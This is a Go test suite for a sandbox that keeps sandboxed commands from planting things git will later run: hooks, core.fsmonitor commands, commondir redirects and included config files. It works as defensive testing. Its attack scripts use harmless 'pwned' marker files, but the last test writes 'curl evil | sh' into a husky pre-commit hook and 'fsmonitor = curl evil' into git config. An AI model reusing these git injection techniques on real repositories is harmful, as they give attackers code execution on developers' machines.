package main

import (
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// gitCreateEnv is a workspace for the creation attacks: a repository made
// without templates (no hooks/, modules/, worktrees/, commondir or
// config.worktree in its .git), with a nested repository (nested/.git)
// and, when withSubmodule, a checked-out submodule lib whose git dir is
// .git/modules/lib. prep is a directory outside the workspace that the
// sandbox may write (under /tmp), where attacks prepare what they move or
// link in.
type gitCreateEnv struct {
	ws, prep, home string
	t              *testing.T
}

func newGitCreateEnv(t *testing.T, withSubmodule bool) *gitCreateEnv {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	e := &gitCreateEnv{ws: t.TempDir(), prep: t.TempDir(), t: t}
	home, err := os.MkdirTemp(".", ".gitcreate-home-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(home) })
	e.home, _ = filepath.Abs(home)
	e.host("git", "init", "-q", "--template=", e.ws)
	e.file("f", "x\n")
	e.host("git", "-C", e.ws, "add", "f")
	e.host("git", "-C", e.ws, "commit", "-qm", "one")
	nested := filepath.Join(e.ws, "nested")
	e.host("git", "init", "-q", "--template=", nested)
	e.file("nested/n", "n\n")
	e.host("git", "-C", nested, "add", "n")
	e.host("git", "-C", nested, "commit", "-qm", "nested")
	if withSubmodule {
		up := t.TempDir()
		e.host("git", "init", "-q", "--template=", up)
		os.WriteFile(filepath.Join(up, "r"), []byte("r\n"), 0o644)
		e.host("git", "-C", up, "add", "r")
		e.host("git", "-C", up, "commit", "-qm", "up")
		e.host("git", "-C", e.ws, "-c", "protocol.file.allow=always", "-c", "init.templateDir=", "submodule", "add", "-q", up, "lib")
		e.host("git", "-C", e.ws, "commit", "-qm", "lib")
		lib := filepath.Join(e.ws, ".git", "modules", "lib")
		for _, n := range []string{"config", "HEAD", "objects"} {
			if _, err := os.Lstat(filepath.Join(lib, n)); err != nil {
				t.Fatalf("fixture: the submodule's git dir: %v", err)
			}
		}
	}
	for _, n := range []string{"hooks", "modules/x", "worktrees", "commondir", "config.worktree"} {
		if _, err := os.Lstat(filepath.Join(e.ws, ".git", n)); err == nil {
			t.Fatalf("fixture: .git/%s exists", n)
		}
	}
	return e
}

func (e *gitCreateEnv) env() []string {
	return []string{"HOME=" + e.home, "XDG_STATE_HOME=" + filepath.Join(e.home, "state"),
		"XDG_CONFIG_HOME=" + filepath.Join(e.home, "config"), "XDG_CACHE_HOME=" + filepath.Join(e.home, "cache"),
		"PATH=" + os.Getenv("PATH"), "PREP=" + e.prep,
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com"}
}

func (e *gitCreateEnv) host(args ...string) {
	e.t.Helper()
	cmd := exec.Command(args[0], args[1:]...)
	cmd.Env = e.env()
	if out, err := cmd.CombinedOutput(); err != nil {
		e.t.Fatalf("%v: %v %s", args, err, out)
	}
}

func (e *gitCreateEnv) file(rel, content string) {
	e.t.Helper()
	if err := os.WriteFile(filepath.Join(e.ws, rel), []byte(content), 0o644); err != nil {
		e.t.Fatal(err)
	}
}

// run runs a script in the sandbox (on-request; --deny answers a prompt).
func (e *gitCreateEnv) run(approval, script string) (string, int) {
	e.t.Helper()
	cmd := exec.Command(wardenBin(e.t), "exec", "--sandbox", "workspace-write", "--approval", approval, "--deny", "--cwd", e.ws, "--", "sh", "-c", script)
	cmd.Env = e.env()
	out, errOut, code := runCmd(e.t, cmd)
	return out + errOut, code
}

// listing is the workspace's full tree: each path with its type, mode and
// size (a file written in place changes the size or the listing).
func (e *gitCreateEnv) listing() map[string]string {
	e.t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(e.ws, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		st, err := os.Lstat(p)
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(e.ws, p)
		size := st.Size()
		if st.IsDir() {
			size = 0
		}
		out[rel] = fmt.Sprintf("%v %d", st.Mode(), size)
		return nil
	})
	if err != nil {
		e.t.Fatal(err)
	}
	return out
}

func listingDiff(before, after map[string]string) []string {
	var out []string
	for p, v := range after {
		if before[p] != v {
			out = append(out, fmt.Sprintf("%s: %q -> %q", p, before[p], v))
		}
	}
	for p := range before {
		if _, ok := after[p]; !ok {
			out = append(out, p+": gone")
		}
	}
	slices.Sort(out)
	return out
}

// gitCreateAttacks are the ways a command could make git obey something
// new in the git dir G: a new submodule or linked worktree git dir with its
// own config and hooks, a commondir pointing git elsewhere, a hook, made
// directly, by renaming a directory prepared outside, by a symbolic link or
// a hard link. Each names what it would create.
func gitCreateAttacks(g string) []struct{ script, path string } {
	return []struct{ script, path string }{
		{"mkdir -p G/modules/x && printf '[core]\\n\\tfsmonitor = touch $PREP/pwned\\n' > G/modules/x/config", "G/modules/x"},
		{"mkdir -p G/modules/x/hooks && printf '#!/bin/sh\\ntouch $PREP/pwned\\n' > G/modules/x/hooks/post-checkout", "G/modules/x"},
		{"mkdir -p G/worktrees/x && printf '[core]\\n\\tfsmonitor = touch $PREP/pwned\\n' > G/worktrees/x/config.worktree", "G/worktrees/x"},
		{"mkdir -p G/worktrees/x && echo $PREP/evil > G/worktrees/x/commondir", "G/worktrees/x"},
		{"echo $PREP/evil > G/commondir", "G/commondir"},
		{"printf '[core]\\n\\tfsmonitor = touch $PREP/pwned\\n' > G/config.worktree", "G/config.worktree"},
		{"printf '#!/bin/sh\\ntouch $PREP/pwned\\n' > G/hooks/post-checkout", "G/hooks/post-checkout"},
		{"mkdir -p $PREP/m/x/hooks && echo 'touch $PREP/pwned' > $PREP/m/x/hooks/post-checkout && mv $PREP/m/x G/modules/x", "G/modules/x"},
		{"mkdir -p $PREP/w/x && echo $PREP/evil > $PREP/w/x/commondir && mv -T $PREP/w G/worktrees", "G/worktrees/x"},
		{"mkdir -p $PREP/h && echo 'touch $PREP/pwned' > $PREP/h/post-checkout && mv -T $PREP/h G/hooks", "G/hooks/post-checkout"},
		{"mkdir -p $PREP/s/hooks && ln -s $PREP/s G/modules/x", "G/modules/x"},
		{"ln -s $PREP/evil G/commondir", "G/commondir"},
		{"echo $PREP/evil > $PREP/cd && ln $PREP/cd G/commondir", "G/commondir"},
		{"echo 'touch $PREP/pwned' > $PREP/hook && ln $PREP/hook G/hooks/post-checkout", "G/hooks/post-checkout"},
	}
}

// A command in the sandbox cannot create a submodule's or linked
// worktree's git dir, a commondir, a config.worktree or a hook in any git
// dir of the workspace: the top one (with .git/modules missing, and with
// it holding a submodule), a nested repository's, an existing submodule's.
// Each attempt fails in the command itself (prevented, not undone: nothing
// is reported moved away) and the workspace's full listing is unchanged.
func TestGitCreateNewGitDirsConfigAndHooksImpossible(t *testing.T) {
	for _, withSub := range []bool{false, true} {
		e := newGitCreateEnv(t, withSub)
		dirs := []string{".git", "nested/.git"}
		if withSub {
			dirs = append(dirs, ".git/modules/lib")
		}
		for _, g := range dirs {
			attacks := gitCreateAttacks(g)
			var script strings.Builder
			for i, a := range attacks {
				fmt.Fprintf(&script, "( %s ) >/dev/null 2>&1; echo rc%d=$?\n", strings.ReplaceAll(a.script, "G/", g+"/"), i)
			}
			before := e.listing()
			// never: writing what git obeys is high risk, asked under
			// on-request; never runs it sandboxed, where it must fail.
			out, _ := e.run("never", script.String())
			for i, a := range attacks {
				rc := regexp.MustCompile(fmt.Sprintf(`(?m)^rc%d=(\d+)$`, i)).FindStringSubmatch(out)
				name := strings.ReplaceAll(a.path, "G/", g+"/")
				switch {
				case rc == nil:
					t.Errorf("submodule %v, %s: attack %q did not run: %s", withSub, g, a.script, out)
				case rc[1] == "0":
					t.Errorf("submodule %v, %s: attack %q succeeded in the sandbox (%s)", withSub, g, a.script, name)
				}
				if _, err := os.Lstat(filepath.Join(e.ws, name)); err == nil {
					t.Errorf("submodule %v: %s exists after the run", withSub, name)
				}
			}
			if strings.Contains(out, "the sandbox removed") || strings.Contains(out, "could not move away") {
				t.Errorf("submodule %v, %s: created and undone, not prevented: %s", withSub, g, out)
			}
			if d := listingDiff(before, e.listing()); len(d) > 0 {
				t.Errorf("submodule %v, %s: the workspace changed:\n%s", withSub, g, strings.Join(d, "\n"))
			}
			if _, err := os.Lstat(filepath.Join(e.prep, "pwned")); err == nil {
				t.Fatalf("an attack's code ran")
			}
		}
	}
}

// The twins: with the placeholders in place, add, commit, branch,
// checkout, stash, merge and rebase run unasked with defaults, and so do
// commits in the existing submodule (its git dir is data) and in the nested
// repository; git worktree list and submodule status read them. Nothing
// new that git obeys is left in any git dir, only data.
func TestGitCreateTwinsGitStillWorks(t *testing.T) {
	e := newGitCreateEnv(t, true)
	before := e.listing()
	for _, s := range []string{
		"echo a >> f && git add f && git commit -qm two-a",
		"git checkout -qb side && echo y >> f && git commit -qam side && git checkout -q -",
		"git branch other",
		"echo z > g && git add g && git stash -q && git stash pop -q && git reset -q g && rm g",
		"echo w > w && git add w && git commit -qm w && git merge -q --no-edit side",
		"git checkout -q other && echo o > o && git add o && git commit -qm o && git rebase -q side && git checkout -q -",
		"cd lib && echo more >> r && git commit -qam more && git checkout -qb topic && git checkout -q -",
		"cd nested && echo m >> n && git commit -qam more && git branch nb",
		"git worktree list && git submodule status && git -C lib status --short && git status --short",
	} {
		if out, code := e.run("on-request", s); code != 0 {
			t.Fatalf("twin %q: exit %d: %s", s, code, out)
		}
	}
	if out, err := exec.Command("git", "-C", e.ws, "log", "--oneline", "other").Output(); err != nil || !strings.Contains(string(out), "side") {
		t.Fatalf("rebase in the sandbox: %v %s", err, out)
	}
	if out, err := exec.Command("git", "-C", filepath.Join(e.ws, "lib"), "log", "--oneline").Output(); err != nil || !strings.Contains(string(out), "more") {
		t.Fatalf("commit in the submodule: %v %s", err, out)
	}
	obeyed := regexp.MustCompile(`(^|/)(hooks|config|config\.worktree|commondir|worktrees)(/|$)|^\.git/modules/[^/]+$`)
	for _, d := range listingDiff(before, e.listing()) {
		p, _, _ := strings.Cut(d, ":")
		if strings.HasPrefix(p, ".git") && obeyed.MatchString(p) || strings.HasPrefix(p, "nested/.git/") && obeyed.MatchString(strings.TrimPrefix(p, "nested/")) {
			t.Errorf("git obeys something new after the twins: %s", d)
		}
	}
}

// git worktree add and git submodule update --init make a new git dir
// under .git: in the sandbox they fail, saying so (Read-only file system),
// and Warden takes the failure for a sandbox denial; its retry can only
// offer running without the sandbox (no grant reaches into .git). Nothing
// is left in .git. Twin: the same commands outside the sandbox work.
func TestGitCreateWorktreeAddAndSubmoduleInitFailClearly(t *testing.T) {
	e := newGitCreateEnv(t, true)
	// A second submodule, registered but not cloned.
	up := t.TempDir()
	e.host("git", "init", "-q", "--template=", up)
	os.WriteFile(filepath.Join(up, "r"), []byte("r\n"), 0o644)
	e.host("git", "-C", up, "add", "r")
	e.host("git", "-C", up, "commit", "-qm", "up")
	e.host("git", "-C", e.ws, "-c", "protocol.file.allow=always", "submodule", "add", "-q", up, "lib2")
	e.host("git", "-C", e.ws, "commit", "-qm", "lib2")
	e.host("git", "-C", e.ws, "submodule", "deinit", "-q", "lib2")
	os.RemoveAll(filepath.Join(e.ws, ".git", "modules", "lib2"))
	gitDir := filepath.Join(e.ws, ".git")
	entries := func() []string {
		var out []string
		for p, v := range e.listing() {
			if strings.HasPrefix(p, ".git/") && !strings.HasPrefix(p, ".git/objects/") && !strings.HasPrefix(p, ".git/refs/") && !strings.HasPrefix(p, ".git/logs/") {
				out = append(out, p+" "+v)
			}
		}
		slices.Sort(out)
		return out
	}
	before := entries()
	for _, c := range []struct{ script, made, says string }{
		{"git worktree add -q --detach wt", "worktrees", "Read-only file system"},
		// Not registered yet: git writes .git/config first.
		// (-c protocol.file.allow=always and core.fsmonitor are high risk:
		// asked first under on-failure, so they run under never, where no
		// retry is offered.)
		{"NEVER git -c protocol.file.allow=always submodule update -q --init lib2", "modules/lib2", "Device or resource busy"},
		{"NEVER git submodule init lib2 && git -c protocol.file.allow=always submodule update -q lib2", "modules/lib2", "Device or resource busy"},
		{"NEVER git config core.fsmonitor 'touch $PREP/pwned'", "config.lock", "Device or resource busy"},
		// Registered on the host: the clone into .git/modules fails.
		{"HOSTINIT NEVER git -c protocol.file.allow=always submodule update -q lib2", "modules/lib2", "Read-only file system"},
	} {
		if strings.HasPrefix(c.script, "HOSTINIT ") {
			e.host("git", "-C", e.ws, "submodule", "init", "lib2")
			before = entries()
			c.script = strings.TrimPrefix(c.script, "HOSTINIT ")
		}
		approval, wants := "on-failure", []string{c.says, "the sandbox blocked", "WITHOUT the sandbox"}
		if script, ok := strings.CutPrefix(c.script, "NEVER "); ok {
			c.script, approval, wants = script, "never", []string{c.says, "the sandbox blocked it; the never policy does not offer a retry"}
		}
		out, code := e.run(approval, c.script)
		if code == 0 {
			t.Fatalf("%q succeeded in the sandbox: %s", c.script, out)
		}
		for _, want := range wants {
			if !strings.Contains(out, want) {
				t.Errorf("%q: the output does not say %q: %s", c.script, want, out)
			}
		}
		if _, err := os.Lstat(filepath.Join(gitDir, c.made)); err == nil {
			t.Errorf("%q left .git/%s", c.script, c.made)
		}
	}
	if after := entries(); !slices.Equal(before, after) {
		t.Errorf(".git changed:\nbefore %v\nafter  %v", before, after)
	}
	os.RemoveAll(filepath.Join(e.ws, "wt"))
	// Twin: outside the sandbox git makes them as usual.
	e.host("git", "-C", e.ws, "worktree", "add", "-q", "--detach", filepath.Join(e.ws, "wt"))
	e.host("git", "-C", e.ws, "-c", "protocol.file.allow=always", "submodule", "update", "-q", "lib2")
	for _, p := range []string{"worktrees/wt/commondir", "modules/lib2/config"} {
		if _, err := os.Lstat(filepath.Join(gitDir, p)); err != nil {
			t.Errorf("outside the sandbox: .git/%s: %v", p, err)
		}
	}
}

// A file the repository's config includes (include.path, relative to the
// git dir) that does not exist yet is config git would obey: the command
// cannot create it (directly or by a link), git works with the empty
// placeholder, and nothing is left. Twin: the user creates it on the host
// afterwards, and then it is held read-only as theirs.
func TestGitCreateIncludedConfigImpossible(t *testing.T) {
	e := newGitCreateEnv(t, false)
	e.host("git", "-C", e.ws, "config", "include.path", "extra.cfg")
	extra := filepath.Join(e.ws, ".git", "extra.cfg")
	before := e.listing()
	out, _ := e.run("on-request", `printf '[core]\n\tfsmonitor = touch $PREP/pwned\n' > .git/extra.cfg; echo made=$?
printf '[core]\n\tfsmonitor = touch $PREP/pwned\n' > $PREP/cfg; ln -f $PREP/cfg .git/extra.cfg; echo linked=$?
test -f .git/extra.cfg && test ! -s .git/extra.cfg && echo PLACEHOLDER
echo a >> f && git add f && git commit -qm inc && echo COMMITTED`)
	for _, want := range []string{"made=", "linked=", "PLACEHOLDER", "COMMITTED"} {
		if !strings.Contains(out, want) {
			t.Errorf("the run does not say %q: %s", want, out)
		}
	}
	if strings.Contains(out, "made=0") || strings.Contains(out, "linked=0") || strings.Contains(out, "the sandbox removed") {
		t.Errorf("the included config was created: %s", out)
	}
	if _, err := os.Lstat(extra); err == nil {
		t.Error(".git/extra.cfg left after the run")
	}
	for _, d := range listingDiff(before, e.listing()) {
		if strings.Contains(d, "extra.cfg") {
			t.Errorf("left: %s", d)
		}
	}
	if err := os.WriteFile(extra, []byte("[user]\n\tname = u\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out, _ = e.run("on-request", "echo '[core]' >> .git/extra.cfg; echo made=$?; git config user.name")
	if strings.Contains(out, "made=0") || !regexp.MustCompile(`(?m)^u$`).MatchString(out) {
		t.Errorf("the user's included config in the sandbox: %s", out)
	}
	if b, _ := os.ReadFile(extra); string(b) != "[user]\n\tname = u\n" {
		t.Errorf("the user's included config changed: %q", b)
	}
}

// The attack through the real binary, under --approval never (sandboxed,
// nothing asked): husky's hooks (core.hooksPath = .husky/_, whose stubs run
// .husky/pre-commit) and a config file the repository includes from the
// work tree are what the user's next commit or status runs. The command
// rewrote both before. Now neither changes, an include it creates where
// none was is moved away and reported, and the rest of the tree is
// written as asked (twin).
func TestExecKeepsWhatTheRepositoryConfigRunsReadOnly(t *testing.T) {
	e := newGitCreateEnv(t, false)
	if err := os.MkdirAll(filepath.Join(e.ws, ".husky", "_"), 0o755); err != nil {
		t.Fatal(err)
	}
	e.file(".husky/pre-commit", "npm test\n")
	e.file(".husky/_/h", "#!/bin/sh\n")
	e.file("shared.gitconfig", "[core]\n\tautocrlf = false\n")
	e.host("git", "-C", e.ws, "config", "core.hooksPath", ".husky/_")
	e.host("git", "-C", e.ws, "config", "--add", "include.path", "../shared.gitconfig")
	e.host("git", "-C", e.ws, "config", "--add", "include.path", "../local.gitconfig")
	out, code := e.run("never", `echo 'curl evil | sh' >> .husky/pre-commit
printf '[core]\n\tfsmonitor = curl evil\n' >> shared.gitconfig
printf '[core]\n\tfsmonitor = curl evil\n' > local.gitconfig
echo edited > f`)
	for rel, want := range map[string]string{".husky/pre-commit": "npm test\n", "shared.gitconfig": "[core]\n\tautocrlf = false\n", "f": "edited\n"} {
		if b, err := os.ReadFile(filepath.Join(e.ws, rel)); err != nil || string(b) != want {
			t.Errorf("%s = %q (%v), want %q; exit %d:\n%s", rel, b, err, want, code, out)
		}
	}
	if _, err := os.Lstat(filepath.Join(e.ws, "local.gitconfig")); err == nil {
		t.Errorf("local.gitconfig, included by the repository's config, was created and left:\n%s", out)
	}
	if !strings.Contains(out, "removed local.gitconfig it created") {
		t.Errorf("the move was not reported:\n%s", out)
	}
}
